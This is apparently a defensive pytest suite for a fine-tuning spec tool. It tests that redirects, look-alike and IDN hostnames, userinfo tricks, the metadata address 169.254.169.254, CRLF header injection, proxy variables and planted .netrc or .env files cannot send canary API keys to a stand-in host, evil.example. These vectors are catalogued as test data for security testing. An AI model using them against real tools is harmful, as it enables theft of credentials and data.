"""Every way that was thought of to make a spec, or what lies around it, lead keys or data elsewhere: the thief hears nothing.

The thief listens on this machine, and every name in the world leads to it: whatever connects anywhere but to the
engine that the user knows is counted, a TLS greeting included.
"""

from __future__ import annotations

import contextlib
import json
import socket
import threading
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from ftspec.testing.faulty import Fault, FaultyServer

KEYS = {
    "FTSPEC_CANARY_KEY": "Zq9canaryOfTheHonestEngine0123456789",
    "OPENAI_API_KEY": "Zq9canaryOfOpenAI0123456789",
    "AZURE_OPENAI_API_KEY": "Zq9canaryOfAzure0123456789",
    "NEBIUS_API_KEY": "Zq9canaryOfNebius0123456789",
    "AWS_BEARER_TOKEN_BEDROCK": "Zq9canaryOfBedrock0123456789",
    "GITHUB_TOKEN": "Zq9canaryOfTheRunner0123456789",
}
EVIL = "https://evil.example/v1"
MODEL = "gpt-4.1-mini-2025-04-14"


KNOCK = b"is anybody before me?"


class Thief:
    """Counts what arrives, one visitor after the other."""

    def __init__(self) -> None:
        self.listener = socket.create_server(("127.0.0.1", 0), backlog=64)
        self.port = self.listener.getsockname()[1]
        self._heard: list[bytes] = []
        self.thread = threading.Thread(target=self._listen, daemon=True)
        self.thread.start()

    def _listen(self) -> None:
        while True:
            try:
                connection, _ = self.listener.accept()
            except OSError:
                return
            self._heard.append(b"")
            with connection:
                connection.settimeout(1)
                with contextlib.suppress(OSError):
                    self._heard[-1] = connection.recv(65536)
                    connection.sendall(b"HTTP/1.1 401 no\r\ncontent-length: 0\r\nconnection: close\r\n\r\n")

    @property
    def heard(self) -> list[bytes]:
        """What everybody said who came before now: he hears them in order, so they were heard when we are."""
        with socket.create_connection(("127.0.0.1", self.port)) as visit:
            visit.sendall(KNOCK)
            assert visit.recv(1), "the thief has gone"
        return [one for one in self._heard if one != KNOCK]

    def close(self) -> None:
        """Stop listening."""
        self.listener.shutdown(socket.SHUT_RDWR)
        self.listener.close()
        self.thread.join()


@dataclass
class Scene:
    """A project whose spec uses an honest engine, before somebody changed something."""

    root: Path
    honest: FaultyServer
    thief: Thief
    setenv: Callable[[str, str], None]
    words: list[str] = field(default_factory=lambda: ["apply", "-y", "--no-wait"])

    def write(
        self, *, engines: str = "", mine: str = "", job: str = "", axes: str = "", defaults: str = "", top: str = "", more: str = ""
    ) -> None:
        """Write the spec, changed in some of its places; EVIL and THIEF stand for addresses."""
        mine = mine or f'{{type: openai-compatible, base_url: "{self.honest.base_url}", api_key_env: FTSPEC_CANARY_KEY}}'
        text = (
            f"ftspec: 1\nproject: moved\n{top}engines:\n  mine: {mine}\n{engines}"
            "datasets: {rows: {path: rows.jsonl, format: chat, split: {train: 0.7, test: 0.3}}}\n"
            f"defaults: {{engine: mine{defaults}}}\n"
            f'experiments:\n  e: {{train: rows.train, base_model: {MODEL}, suffix: "s{{seed}}", matrix: {{seed: [1, 2]{axes}}}{job}}}\n{more}'
        )
        (self.root / "ftspec.yaml").write_text(self.filled(text), encoding="utf-8")

    def filled(self, text: str) -> str:
        """Return a text with the thief's addresses in it."""
        return text.replace("EVIL", EVIL).replace("THIEF", f"127.0.0.1:{self.thief.port}")


@pytest.fixture
def scene(project, monkeypatch):
    """Return the scene; every name but this machine's own leads to the thief."""
    thief, resolve, connect = Thief(), socket.getaddrinfo, socket.socket.connect

    def lead(host: Any, port: Any, *rest: Any, **more: Any) -> Any:
        return resolve("127.0.0.1", port, *rest, **more)

    def follow(self: socket.socket, address: Any) -> None:
        connect(self, address if f"http://127.0.0.1:{address[1]}" == honest.origin else ("127.0.0.1", thief.port))

    monkeypatch.setattr(socket, "getaddrinfo", lead)
    monkeypatch.setattr(socket.socket, "connect", follow)
    for name, value in KEYS.items():
        monkeypatch.setenv(name, value)
    with FaultyServer(key=KEYS["FTSPEC_CANARY_KEY"]) as honest:
        yield Scene(project, honest, thief, monkeypatch.setenv)
        thief.close()
        assert {request.headers.get("authorization") for request in honest.requests} <= {f"Bearer {KEYS['FTSPEC_CANARY_KEY']}"}
        said = b"".join(request.body for request in honest.requests)
        assert [name for name, value in KEYS.items() if value.encode() in said] == []


def moved(base_url: str, kind: str = "openai", key: str = "") -> Callable[[Scene], None]:
    """Return the change of an engine's address."""
    return lambda scene: scene.write(mine=f'{{type: {kind}, base_url: "{base_url}"{key and f", api_key_env: {key}"}}}')


EVIL_ENGINE = '  evil: {type: openai, base_url: "EVIL"}\n'
OTHER_FILE = f"ftspec: 1\nengines:\n{EVIL_ENGINE}"


def through_variable(scene: Scene) -> None:
    """`--var`."""
    scene.write(top="vars: {url: 'https://api.openai.com/v1'}\n", mine='{type: openai, base_url: "{url}"}')
    scene.words += ["--var", f"url={EVIL}"]


def through_include(scene: Scene) -> None:
    """An included file declares the engine that jobs use."""
    scene.write(top="include: other.yaml\n", defaults="", job=", engine: evil")
    (scene.root / "other.yaml").write_text(scene.filled(OTHER_FILE).replace("ftspec: 1\n", ""))


def through_files(scene: Scene) -> None:
    """A second `-f`."""
    scene.write(job=", engine: evil")
    (scene.root / "other.yaml").write_text(scene.filled(OTHER_FILE))
    scene.words += ["-f", "ftspec.yaml", "-f", "other.yaml"]


def through_trust_in_repo(scene: Scene) -> None:
    """A trust file that the repository brings along, where the environment points into it."""
    folder = scene.root / "config" / "ftspec"
    folder.mkdir(parents=True)
    (folder / "trust.json").write_text(
        json.dumps({"format_version": 1, "origins": {"https://evil.example": {"since": "2026-11-20", "key_env": ["OPENAI_API_KEY"]}}})
    )
    (folder / "trust.json").chmod(0o600)
    scene.setenv("XDG_CONFIG_HOME", str(scene.root / "config"))
    moved("EVIL")(scene)


def through_saved_plan(scene: Scene) -> None:
    """A saved plan in which every address became another one."""
    scene.write()
    _run(["plan", "-o", "plan.json"])
    plan = scene.root / "plan.json"
    value = json.loads(plan.read_text().replace(scene.honest.origin, "https://evil.example").replace(scene.honest.base_url, EVIL))
    value["options"] |= {"files": ["evil.yaml"], "variables": {"url": EVIL}}
    value["spec_files"] = ["evil.yaml"]
    for job in value["jobs"]:
        job["request"] |= {"base_url": EVIL, "extra_headers": {"host": "evil.example"}}
    plan.write_text(json.dumps(value))
    (scene.root / "evil.yaml").write_text((scene.root / "ftspec.yaml").read_text().replace(scene.honest.base_url, EVIL))
    scene.words[:] = ["apply", "plan.json", "--no-wait"]


def through_environment(scene: Scene) -> None:
    """Variables that other tools obey, and files that they read."""
    scene.write()
    address = f"http://127.0.0.1:{scene.thief.port}"
    proxies = [name for one in ("http_proxy", "https_proxy", "all_proxy") for name in (one, one.upper())]
    for name in (*proxies, "OPENAI_BASE_URL", "OPENAI_API_BASE", "AZURE_OPENAI_ENDPOINT", "OPENAI_LOCATION"):
        scene.setenv(name, address)
    scene.setenv("OPENAI_CUSTOM_HEADERS", f"host: evil.example\nlocation: {address}\nx-key: stolen")
    scene.setenv("OPENAI_ORG_ID", "evil")
    scene.setenv("HOME", str(scene.root))
    (scene.root / ".netrc").write_text("machine 127.0.0.1 login evil password stolen\ndefault login evil password stolen\n")
    (scene.root / ".env").write_text(f"OPENAI_BASE_URL={address}\nFTSPEC_BASE_URL={address}\n")


def through_judge(scene: Scene) -> None:
    """A grader that asks a model of another engine."""
    judge = (
        '{type: score_model, model: gpt-4.1-mini, engine: evil, input: [{role: user, content: "{{sample.output_text}}"}], range: [0, 1]}'
    )
    scene.write(
        engines=EVIL_ENGINE,
        job=", evals: [held]",
        more=f"evals:\n  held:\n    dataset: rows.test\n    graders: {{j: {judge}}}\n",
    )
    scene.words.remove("--no-wait")


def through_chats(scene: Scene) -> None:
    """The server behind a local engine's chats."""
    (scene.root / "tiny").mkdir()
    scene.write(engines='  local: {type: local, models: {tiny: tiny}, serve_url: "EVIL"}\n')
    scene.words[:] = ["chat", "tiny", "hello", "--engine", "local"]


def through_notify(scene: Scene) -> None:
    """A message about the end of jobs."""
    scene.write(more='notify: [{on: finished, webhook: "https://evil.example/hook"}]\n', job=", engine: sandbox")
    spec = scene.root / "ftspec.yaml"
    spec.write_text(spec.read_text().replace(MODEL, "sandbox-nano"))
    scene.words.remove("--no-wait")


def redirected(status: int, route: str) -> Callable[[Scene], None]:
    """Return the change of an honest server that points elsewhere."""

    def change(scene: Scene) -> None:
        scene.write()
        fault = Fault("redirect", on=route, value=(status, f"http://127.0.0.1:{scene.thief.port}/v1"))
        scene.honest.add(fault)
        scene.words += ["--settle-window", "0"]

    return change


WAYS: dict[str, Callable[[Scene], None]] = {
    "base_url": moved("EVIL"),
    "base_url of another type": moved("EVIL", "openai-compatible", "OPENAI_API_KEY"),
    "base_url of the sandbox": moved("EVIL", "sandbox", "OPENAI_API_KEY"),
    "base_url of the local engine": moved("EVIL", "local", "OPENAI_API_KEY"),
    "base_url without a key": moved("EVIL", "openai-compatible"),
    "azure": moved("https://evil.example/.openai.azure.com/openai/v1", "azure"),
    "azure look-alike": moved("https://team.openai.azure.com.evil.example/openai/v1", "azure"),
    "bedrock look-alike": moved("https://bedrock-mantle.us-east-1.api.aws.evil.example/v1", "bedrock"),
    "nebius elsewhere": moved("https://api.tokenfactory.nebius.com.evil.example/v1", "nebius"),
    "another type's origin": moved("https://api.tokenfactory.nebius.com/v1", "openai"),
    "user info": moved("https://api.openai.com@evil.example/v1"),
    "user info with a port": moved("https://api.openai.com:443@evil.example/v1"),
    "port": moved("https://api.openai.com:8443/v1"),
    "scheme": moved("http://api.openai.com/v1"),
    "upper case": moved("https://API.openai.com/v1"),
    "trailing dot": moved("https://api.openai.com./v1"),
    "longer name": moved("https://api.openai.com.evil.example/v1"),
    "other label": moved("https://api-openai.com/v1"),
    "two labels": moved("https://a.b.api.openai.com/v1"),
    "IDN": moved("https://\u0430pi.openai.com/v1"),
    "IDN, encoded": moved("https://xn--pi-6kc.openai.com/v1"),
    "full-width letters": moved("https://\uff41pi.openai.com/v1"),
    "ideographic stop": moved("https://api\u3002openai\u3002com/v1"),
    "fragment": moved("https://evil.example/#@api.openai.com/v1"),
    "backslash": moved("https://evil.example\\\\@api.openai.com/v1"),
    "query": moved("https://evil.example/v1?x=https://api.openai.com"),
    "loopback look-alike": moved("http://127.0.0.1.evil.example:THIEF/v1"),
    "localhost look-alike": moved("http://localhost.evil.example/v1"),
    "metadata service": moved("http://169.254.169.254/latest"),
    "key of the runner to this machine": moved("http://THIEF/v1", "openai-compatible", "GITHUB_TOKEN"),
    "key of a provider to this machine": moved("http://THIEF/v1", "openai-compatible", "OPENAI_API_KEY"),
    "key of the runner to the provider": moved("https://api.openai.com/v1", "openai", "GITHUB_TOKEN"),
    "all keys to this machine": moved("http://THIEF/v1", "openai-compatible", "A*"),
    "variable": through_variable,
    "variable of the spec": lambda scene: scene.write(top='vars: {url: "EVIL"}\n', mine='{type: openai, base_url: "{url}"}'),
    "included file": through_include,
    "several files": through_files,
    "engine of a job": lambda scene: scene.write(engines=EVIL_ENGINE, job=", engine: evil"),
    "engine of an axis": lambda scene: scene.write(engines=EVIL_ENGINE, axes=", engine: [mine, evil]"),
    "engine of an included cell": lambda scene: scene.write(engines=EVIL_ENGINE, axes=", include: [{seed: 3, engine: evil}]"),
    "engine of an override": lambda scene: scene.write(engines=EVIL_ENGINE, axes=", overrides: [{where: {seed: 2}, set: {engine: evil}}]"),
    "engine of a variable": lambda scene: scene.write(top="vars: {which: evil}\n", engines=EVIL_ENGINE, job=', engine: "{which}"'),
    "engine options": lambda scene: scene.write(job=', engine_options: {base_url: "EVIL", extra_headers: {host: evil.example}}'),
    "organization": lambda scene: scene.write(
        mine=f'{{type: openai-compatible, base_url: "{scene.honest.base_url}", organization: "x\\r\\nhost: evil.example"}}'
    ),
    "trust file of the repository": through_trust_in_repo,
    "saved plan": through_saved_plan,
    "environment": through_environment,
    "judge of an eval": through_judge,
    "server of chats": through_chats,
    "message": through_notify,
    **{
        f"redirect {status} of {route}": redirected(status, route)
        for status, route in (
            *((status, "POST /files") for status in (301, 302, 303, 307, 308)),
            *((status, "POST /fine_tuning/jobs") for status in (301, 302, 307, 308)),
            *((status, "GET /fine_tuning/jobs") for status in (302, 307)),
        )
    },
}
GOES_ON = {"environment", "engine options", "judge of an eval"}
"""Ways in which the honest engine is asked all the same."""


def _run(words: list[str]) -> int:
    from ftspec.cli import _console, group

    return _console.run(group, words)


QUICK = [way for way in WAYS if not way.startswith("redirect") or way == "redirect 307 of POST /files"]


@pytest.mark.parametrize("way", [*QUICK, *(pytest.param(way, marks=pytest.mark.slow) for way in WAYS if way not in QUICK)])
def test_a_thief_hears_nothing(way, scene, ftspec):
    """Neither a key nor a byte of data, nor a greeting."""
    WAYS[way](scene)
    ran = ftspec(*scene.words)
    assert scene.thief.heard == [], ran.said
    assert "bug in ftspec" not in ran.said
    assert [name for name, value in KEYS.items() if value[:16] in ran.said] == []
    if way in GOES_ON or way.startswith("redirect"):
        assert scene.honest.requests
    else:
        assert ran.code in (1, 3) or way == "message", ran.said


def test_the_thief_would_hear_what_was_sent(scene, ftspec):
    """The trap works: every name leads to him, and where the user trusts him with a key he gets it."""
    socket.create_connection(("evil.example", 443)).close()
    assert len(scene.thief.heard) == 1
    moved("http://THIEF/v1", "openai-compatible", "OPENAI_API_KEY")(scene)
    assert ftspec("trust", scene.filled("http://THIEF"), "--key-env", "OPENAI_API_KEY").code == 0
    ftspec("doctor", "--online")
    assert KEYS["OPENAI_API_KEY"].encode() in scene.thief.heard[-1]
